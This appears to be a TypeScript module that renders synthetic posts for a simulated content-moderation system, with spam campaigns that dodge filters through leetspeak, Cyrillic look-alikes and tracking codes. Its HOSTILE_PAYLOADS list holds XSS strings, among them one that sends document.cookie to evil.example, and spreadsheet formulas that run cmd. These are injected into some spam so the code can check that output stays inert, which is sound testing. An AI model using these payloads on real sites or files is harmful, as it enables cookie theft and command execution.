import {COUNTRIES, type Category} from "../core/constants.js";
import {createRng, int, type Rng} from "../core/random.js";
import {CAMPAIGN_SCRIPTS, GRAMMAR_LANGUAGES, LANGUAGES, LOOKALIKE_SCRIPTS, type GrammarLanguage, type Pattern} from "./textGrammar.js";

/**
 * Synthetic text snippets. Each flag stores only a template id; its text is rendered on demand from a
 * per-flag generator, so the world does not hold millions of strings. A template is a policy intent:
 * an organic one is written from a grammar (src/world/textGrammar.ts: several phrasings, synonyms, slot
 * fillers, word order) in one of the languages of the flag's country, so organic texts rarely repeat
 * exactly. A campaign script is one text copied by every ring member with small edits and the
 * obfuscation filter evaders use (leetspeak, letter spacing, Cyrillic look-alikes, emoji, typos,
 * tracking codes): near-duplicates that exact-hash dedup splits apart and MinHash still joins. Benign
 * look-alikes (chain messages, memes, copypasta, quoted news) are near-identical copies too. A small
 * share of spam carries hostile payloads (markup, spreadsheet formulas), as real spam does: every page
 * and export must show them as inert text.
 */

export interface Template {
  id: number;
  /** The category this template is written for, or the campaign it belongs to. */
  group: string;
  /** The template's first English pattern, for reference (`{slot}` and `{a|b}` unexpanded). */
  text: string;
}

/**
 * Benign near-duplicates: text that many unrelated people post or forward, gets reported by some, and
 * breaks no rule. A content-similarity signal fires on it just as on a campaign script.
 */
export const LOOKALIKE_TEXT_KINDS = ["chain_message", "meme", "copypasta", "quoted_news"] as const;
export type LookalikeTextKind = (typeof LOOKALIKE_TEXT_KINDS)[number];

/** Hostile payloads seen in real spam; they must never execute or evaluate downstream. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<img src=x onerror="alert(1)">',
  "<script>fetch('//evil.example/c?'+document.cookie)</script>",
  '=HYPERLINK("http://evil.example/claim","Claim prize")',
  "=cmd|' /C calc'!A0",
  '"><svg onload=alert(document.domain)>',
  "+SUM(1+1)*cmd|' /C notepad'!A1",
  "@SUM(1,2)",
  '<a href="javascript:alert(1)">claim</a>',
  "-2+3+cmd|' /C calc'!D2",
  "</textarea><iframe src=javascript:alert(1)>",
  "</script><script>alert(1)</script>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)',
  "<input autofocus onfocus=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<video><source onerror=alert(1)>",
  "<marquee onstart=alert(1)>win</marquee>",
  "javascript:alert(document.cookie)",
  "<style>@import 'http://evil.example/x.css';</style>",
  "<meta http-equiv=refresh content='0;url=http://evil.example'>"
];

const HOSTILE_SHARE = 0.03;

/** One part of a compiled pattern: fixed text, or alternatives to pick one of. */
type Part = string | readonly string[];

/** Splits a pattern into parts, resolving `{slot}` to the language's words (English's if it has none). */
function compile(pattern: string, language: GrammarLanguage): Part[] {
  const parts: Part[] = [];
  let last = 0;
  for (const m of pattern.matchAll(/\{([^{}]*)\}/g)) {
    if (m.index > last) parts.push(pattern.slice(last, m.index));
    const body = m[1];
    const words = body.includes("|") ? null : LANGUAGES[language].slots[body] ?? LANGUAGES.EN.slots[body];
    if (!words && !body.includes("|")) throw new Error(`unknown slot: {${body}} in ${language} pattern "${pattern}"`);
    parts.push(words ?? body.split("|"));
    last = m.index + m[0].length;
  }
  if (last < pattern.length) parts.push(pattern.slice(last));
  return parts;
}

const phrasings = (entry: Pattern): readonly string[] => (typeof entry === "string" ? [entry] : entry);

export const TEMPLATES: readonly Template[] = (() => {
  const list: Template[] = [];
  for (const [group, entries] of Object.entries(LANGUAGES.EN.categories)) for (const entry of entries) list.push({id: list.length, group, text: phrasings(entry)[0]});
  for (const [group, text] of Object.entries(CAMPAIGN_SCRIPTS)) list.push({id: list.length, group: `campaign:${group}`, text});
  for (const kind of LOOKALIKE_TEXT_KINDS) list.push({id: list.length, group: `lookalike:${kind}`, text: LOOKALIKE_SCRIPTS[kind]});
  return list;
})();

const byGroup = new Map<string, number[]>();
for (const t of TEMPLATES) byGroup.set(t.group, [...(byGroup.get(t.group) ?? []), t.id]);

/**
 * The compiled phrasings of every template in every language (PHRASINGS[language][template]). An
 * organic template in a language with fewer phrasings of its category takes one by its rank in the
 * category; campaign scripts are copied in English; the chain message exists in several languages.
 */
const PHRASINGS: readonly (readonly (readonly (readonly Part[])[])[])[] = GRAMMAR_LANGUAGES.map((language) =>
  TEMPLATES.map((t) => {
    const rank = byGroup.get(t.group)!.indexOf(t.id);
    if (t.group.startsWith("campaign:")) return [compile(t.text, "EN")];
    if (t.group === "lookalike:chain_message") return [compile(LANGUAGES[language].chain ?? t.text, LANGUAGES[language].chain ? language : "EN")];
    if (t.group.startsWith("lookalike:")) return [compile(t.text, "EN")];
    const own = LANGUAGES[language].categories[t.group as Category];
    const lang = own ? language : "EN";
    const entries = own ?? LANGUAGES.EN.categories[t.group as Category]!;
    return phrasings(entries[rank % entries.length]).map((p) => compile(p, lang));
  })
);

/** Per country, cumulative shares of the grammar's languages (a language the grammar lacks counts as English). */
const LANGUAGE_CDF: readonly Float64Array[] = COUNTRIES.map((c) => {
  const shares = new Float64Array(GRAMMAR_LANGUAGES.length);
  for (const [code, share] of Object.entries(c.languages)) {
    const j = GRAMMAR_LANGUAGES.indexOf(code as GrammarLanguage);
    shares[j < 0 ? 0 : j] += share;
  }
  let total = 0;
  return shares.map((s) => (total += s) / Object.values(c.languages).reduce((a, b) => a + b, 0));
});

function pickLanguage(rng: Rng, country: number | undefined): number {
  if (country === undefined) return 0;
  const cdf = LANGUAGE_CDF[country];
  if (!cdf) throw new Error(`unknown country: ${country}`);
  const u = rng();
  let j = 0;
  while (j < cdf.length - 1 && u >= cdf[j]) j++;
  return j;
}

/** A template id for an organic flag of this category. */
export function pickTemplate(rng: Rng, category: Category): number {
  const ids = byGroup.get(category)!;
  return ids[int(rng, ids.length)];
}

/** The template id of a ring's campaign script. */
export function campaignTemplate(purpose: string): number {
  const ids = byGroup.get(`campaign:${purpose}`);
  if (!ids) throw new Error(`unknown campaign: ${purpose}`);
  return ids[0];
}

/** The template id of a benign near-duplicate text. */
export function lookalikeTemplate(kind: LookalikeTextKind): number {
  const ids = byGroup.get(`lookalike:${kind}`);
  if (!ids) throw new Error(`unknown lookalike text: ${kind}`);
  return ids[0];
}

const EMOJI = ["🔥", "💰", "👀", "‼️", "😡", "🙏", "✅", "😂", "💯", "👉"];
const LEET: Record<string, string> = {a: "4", e: "3", i: "1", o: "0", s: "5", t: "7", A: "4", E: "3", I: "1", O: "0", S: "5", T: "7"};
/** Latin letters and the Cyrillic letters drawn the same. */
const HOMOGLYPH: Record<string, string> = {a: "а", c: "с", e: "е", o: "о", p: "р", x: "х", y: "у", i: "і", A: "А", C: "С", E: "Е", O: "О", P: "Р", H: "Н", K: "К", M: "М", T: "Т"};
const LATIN_WORD = /^[A-Za-z][A-Za-z'-]{2,}$/;

/** One evasion edit on one Latin word: leetspeak, spaced or dotted letters, Cyrillic look-alikes, or a typo. */
function obfuscateWord(word: string, rng: Rng): string {
  const op = int(rng, 6);
  if (op === 0) return word.replace(/[aeiostAEIOST]/g, (c) => (rng() < 0.7 ? LEET[c] : c));
  if (op === 1) return [...word].join(" ");
  if (op === 2) return [...word].join(".");
  if (op === 3) return word.replace(/[aceopxyiACEOPHKMT]/g, (c) => (rng() < 0.6 ? HOMOGLYPH[c] : c));
  const i = 1 + int(rng, word.length - 2);
  if (op === 4) return word.slice(0, i) + word[i + 1] + word[i] + word.slice(i + 2);
  return rng() < 0.5 ? word.slice(0, i) + word.slice(i + 1) : word.slice(0, i) + word[i] + word.slice(i);
}

/** Applies `edits` evasion edits to random Latin words of the text (none if it has no Latin word). */
function obfuscate(text: string, rng: Rng, edits: number): string {
  const words = text.split(" ");
  const latin: number[] = [];
  for (let w = 0; w < words.length; w++) if (LATIN_WORD.test(words[w])) latin.push(w);
  if (!latin.length) return text;
  for (let e = 0; e < edits; e++) {
    const w = latin[int(rng, latin.length)];
    words[w] = obfuscateWord(words[w], rng);
  }
  return words.join(" ");
}

/** Writes a compiled pattern; a copied script keeps its first alternative most of the time. */
function expand(parts: readonly Part[], rng: Rng, copied: boolean): string {
  let text = "";
  for (const p of parts) text += typeof p === "string" ? p : copied && rng() < 0.8 ? p[0] : p[int(rng, p.length)];
  return text;
}

const TRACKING = "abcdefghjkmnpqrstuvwxyz23456789";
const FORWARD_PREFIX = ["", "", "", "Fwd: ", "fwd: ", "lol ", "😂 ", "FYI "];
const FORWARD_SUFFIX = ["", "", "", " 😂", " lol", " (copied)", " fr", " 🙏"];
const COPY_PREFIX = ["", "", "", "", "pls ", "guys ", "URGENT: ", ">> "];

/** How a text's kind edits it: evasion edits (probability of one, and of a second) and the extra touches. */
const STYLE = {
  organic: {obfuscate: 0.12, second: 0.2},
  spam: {obfuscate: 0.35, second: 0.4},
  campaign: {obfuscate: 0.6, second: 0.5},
  lookalike: {obfuscate: 0.08, second: 0}
};

/**
 * The snippet of one flag: a deterministic function of the world seed, the flag, its template and the
 * country it was posted in (whose languages it is written in; English when no country is given).
 */
export function renderSnippet(seed: number, flagId: number, templateId: number, country?: number): string {
  const template = TEMPLATES[templateId];
  if (!template) throw new Error(`unknown template: ${templateId}`);
  const rng = createRng(`${seed}/text/${flagId}`);
  const campaign = template.group.startsWith("campaign:");
  const lookalike = template.group.startsWith("lookalike:");
  const language = pickLanguage(rng, country);
  const options = PHRASINGS[language][templateId];
  let text = expand(options.length > 1 ? options[int(rng, options.length)] : options[0], rng, campaign || lookalike);
  if (!campaign && !lookalike) {
    const {open, close} = LANGUAGES[GRAMMAR_LANGUAGES[language]];
    text = open[int(rng, open.length)] + text + close[int(rng, close.length)];
  }
  const style = campaign ? STYLE.campaign : lookalike ? STYLE.lookalike : template.group === "spam" ? STYLE.spam : STYLE.organic;
  const casing = rng();
  if (casing < 0.12) text = text.toUpperCase();
  else if (casing < 0.27) text = text.toLowerCase();
  if (rng() < style.obfuscate) text = obfuscate(text, rng, rng() < style.second ? 2 : 1);
  if (campaign) {
    text = COPY_PREFIX[int(rng, COPY_PREFIX.length)] + text;
    // Bots append a tracking code, which alone defeats an exact hash.
    if (rng() < 0.5) text += ` ref ${TRACKING[int(rng, 31)]}${TRACKING[int(rng, 31)]}${TRACKING[int(rng, 31)]}${TRACKING[int(rng, 31)]}`;
  } else if (lookalike) text = FORWARD_PREFIX[int(rng, FORWARD_PREFIX.length)] + text + FORWARD_SUFFIX[int(rng, FORWARD_SUFFIX.length)];
  if (rng() < 0.3) text += ` ${EMOJI[int(rng, EMOJI.length)]}`;
  if (rng() < 0.15) text += "!!";
  if ((template.group === "spam" || template.group === "campaign:spam_bot_wave") && rng() < HOSTILE_SHARE) text = `${text} ${HOSTILE_PAYLOADS[int(rng, HOSTILE_PAYLOADS.length)]}`;
  return text;
}
